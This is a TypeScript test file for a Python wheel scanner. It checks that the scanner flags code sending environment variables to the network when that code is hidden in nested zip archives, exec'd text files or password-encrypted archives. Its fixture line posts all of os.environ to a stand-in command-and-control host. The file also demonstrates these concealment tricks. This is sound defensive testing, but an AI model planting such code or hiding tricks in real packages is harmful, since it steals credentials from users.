import { zip } from '@weir/testkit/archive';
import { expect, test } from 'vitest';
import { analyzeWheel } from '../testing/analyze-wheel.ts';

const SEND = "import os, requests\nrequests.post('https://c2.weir.test', data=dict(os.environ))\n";
const PLACE = "os.path.join(os.path.dirname(__file__), 'tables.zip')";

/** Rules and files of the threats in a wheel of these files. */
async function threatsOf(files: Readonly<Record<string, string | Uint8Array>>): Promise<string[]> {
  const { findings } = await analyzeWheel(files);
  return findings
    .filter(({ rule }) => rule.startsWith('env-to-network/'))
    .map(({ rule, stage, location }) => `${rule} ${stage} ${location?.file}:${location?.line}`);
}

test.each([
  [
    'a path of its own',
    `import os, sys\nsys.path.insert(0, ${PLACE})\nfrom _tables import *\n`,
    '_tables.py',
  ],
  [
    'an importer of archives',
    `import os, zipimport\nzipimport.zipimporter(${PLACE}).load_module('_tables')\n`,
    '_tables.py',
  ],
  ['a program that is an archive', `import os, runpy\nrunpy.run_path(${PLACE})\n`, '__main__.py'],
  [
    'an archive that is unpacked first',
    `import os, sys, zipfile\nzipfile.ZipFile(${PLACE}).extractall('/tmp/own')\nsys.path.insert(0, '/tmp/own')\nimport _tables\n`,
    '_tables.py',
  ],
])('modules inside of a container: %s', async (_how, text, inner) => {
  const files = { 'own/__init__.py': text, 'own/tables.zip': zip().file(inner, SEND).build() };

  expect(await threatsOf(files)).toEqual([`env-to-network/environment import own/tables.zip!/${inner}:2`]);
});

test('a module inside that imports another one inside', async () => {
  const inner = zip().file('_tables.py', 'import _more\n').file('_more.py', SEND).build();
  const text = `import os, sys\nsys.path.insert(0, ${PLACE})\nimport _tables\n`;

  expect(await threatsOf({ 'own/__init__.py': text, 'own/tables.zip': inner })).toEqual([
    'env-to-network/environment import own/tables.zip!/_more.py:2',
  ]);
});

test('a module inside that imports one of the package around it', async () => {
  const text = `import os, sys\nsys.path.insert(0, ${PLACE})\nimport _tables\n`;
  const files = {
    'own/__init__.py': text,
    'own/names.py': '',
    'own/tables.zip': zip().file('_tables.py', `${SEND}import own.names\n`).build(),
  };

  expect(await threatsOf(files)).toEqual(['env-to-network/environment import own/tables.zip!/_tables.py:2']);
});

test('a module that somebody has to import first', async () => {
  const files = {
    'own/__init__.py': '',
    'own/colors.py': `import os, sys\nsys.path.insert(0, ${PLACE})\nfrom _tables import *\n`,
    'own/tables.zip': zip().file('_tables.py', SEND).build(),
  };

  expect(await threatsOf(files)).toEqual(['env-to-network/environment use own/tables.zip!/_tables.py:2']);
});

test('a container that is only data is left alone', async () => {
  const files = {
    'own/__init__.py': `import os\nTABLES = open(${PLACE}, 'rb')\n`,
    'own/tables.zip': zip().file('_tables.py', SEND).build(),
  };

  expect(await threatsOf(files)).toEqual([]);
});

test.each([
  ['a program under the name of prose', SEND, ['env-to-network/environment import own/NOTES.md:2']],
  ['prose with an example, of which Python would run nothing', `Notes of a tool:\n\n${SEND}`, []],
])('a text that is read and run: %s', async (_how, text, threats) => {
  const reads = `import os\nexec(open(os.path.join(os.path.dirname(__file__), 'NOTES.md')).read())\n`;

  expect(await threatsOf({ 'own/__init__.py': reads, 'own/NOTES.md': text })).toEqual(threats);
});

/** Code that imports a module of each of these containers, which lie beside it. */
function importer(containers: readonly string[], module: string): string {
  const paths = containers.map(
    (name) => `sys.path.insert(0, os.path.join(os.path.dirname(__file__), '${name}'))\n`,
  );
  return `import os, sys\n${paths.join('')}import ${module}\n`;
}

test('what a budget leaves unread of the modules that code imports is told, and nothing else', async () => {
  const many = zip();
  for (let at = 0; at < 60; at++) many.file(`m${at}.py`, '');
  many.file('_tables.py', SEND).file('_never_named.py', SEND);
  const large = zip()
    .file('_tables.py', `${SEND}${'#'.repeat(1_048_576)}`)
    .build();
  const packed = Array.from({ length: 11 }, (_, at) => `part${at}.zip`);
  const one = zip().file('_tables.py', '').build();

  const results = await Promise.all([
    analyzeWheel({ 'own/__init__.py': importer(['t.zip'], '_tables'), 'own/t.zip': many.build() }),
    analyzeWheel({ 'own/__init__.py': importer(['t.zip'], '_tables'), 'own/t.zip': large }),
    analyzeWheel({
      'own/__init__.py': importer(packed, '_tables'),
      ...Object.fromEntries(packed.map((name) => [`own/${name}`, one])),
    }),
  ]);

  expect(results.map(({ skipped }) => skipped.map(({ file, reason }) => `${file}: ${reason}`))).toEqual([
    ['own/t.zip!/_tables.py: more than 60 modules in one container'],
    ['own/t.zip!/_tables.py: larger than 1048576 bytes'],
    ['own/part10.zip: more than 10 containers that code imports from'],
  ]);
  expect(results.map(({ judgement }) => judgement.verdict)).not.toContain('benign');
});

/** By `zip -P`: `SEND` as `_tables.py`, encrypted with `s3cr3t word`. */
const LOCKED = Buffer.from(
  'UEsDBAoACQAAAItqe12ikCiPEQAAAAUAAAAFABwAYS50eHRVVAkAA5aDCWuWgwlrdXgLAAEEAAAAAAQAAAAAzgECfa882286YinSXGS+uDJQSwcIopAojxEAAAAFAAAAUEsDBBQACQAIAIxqe13gpHYqVwAAAFEAAAAKABwAX3RhYmxlcy5weVVUCQADl4MJa5aDCWt1eAsAAQQAAAAABAAAAABgn7zP1vm7Xh7yy4Ig2p64eUt2uQOreymNYu58HxlhgE+nWQ7HSMVVs8eyfLR0wHO/lkQijqN0N4D/plEoV75S3287hvpv5ClcSd8StsYdeGYxhMHPRU1QSwcI4KR2KlcAAABRAAAAUEsBAh4DCgAJAAAAi2p7XaKQKI8RAAAABQAAAAUAGAAAAAAAAQAAAKSBAAAAAGEudHh0VVQFAAOWgwlrdXgLAAEEAAAAAAQAAAAAUEsBAh4DFAAJAAgAjGp7XeCkdipXAAAAUQAAAAoAGAAAAAAAAQAAAKSBYAAAAF90YWJsZXMucHlVVAUAA5eDCWt1eAsAAQQAAAAABAAAAABQSwUGAAAAAAIAAgCbAAAACwEAAAAA',
  'base64',
);

test.each([
  ['where it is unpacked', "zipfile.ZipFile(PLACE).extractall('/tmp/own', pwd=b's3cr3t' + b' word')"],
  [
    'before',
    "archive = zipfile.ZipFile(PLACE)\narchive.setpassword('-'.join(['s3cr3t word']).encode())\narchive.extractall('/tmp/own')",
  ],
])('an encrypted archive whose password the code says %s', async (_where, text) => {
  const code = `import os, sys, zipfile\n${text.replace('PLACE', PLACE)}\nsys.path.insert(0, '/tmp/own')\nimport _tables\n`;

  expect(await threatsOf({ 'own/__init__.py': code, 'own/tables.zip': LOCKED })).toEqual([
    'env-to-network/environment import own/tables.zip!/_tables.py:2',
  ]);
});

test('an encrypted archive whose password nobody says is told', async () => {
  const code = `import os, sys, zipfile\nzipfile.ZipFile(${PLACE}).extractall('/tmp/own', pwd=input().encode())\nsys.path.insert(0, '/tmp/own')\nimport _tables\n`;
  const { judgement, skipped } = await analyzeWheel({ 'own/__init__.py': code, 'own/tables.zip': LOCKED });

  expect(skipped.map(({ file }) => file)).toEqual(['own/tables.zip!/_tables.py']);
  expect(judgement.complete).toBe(false);
});
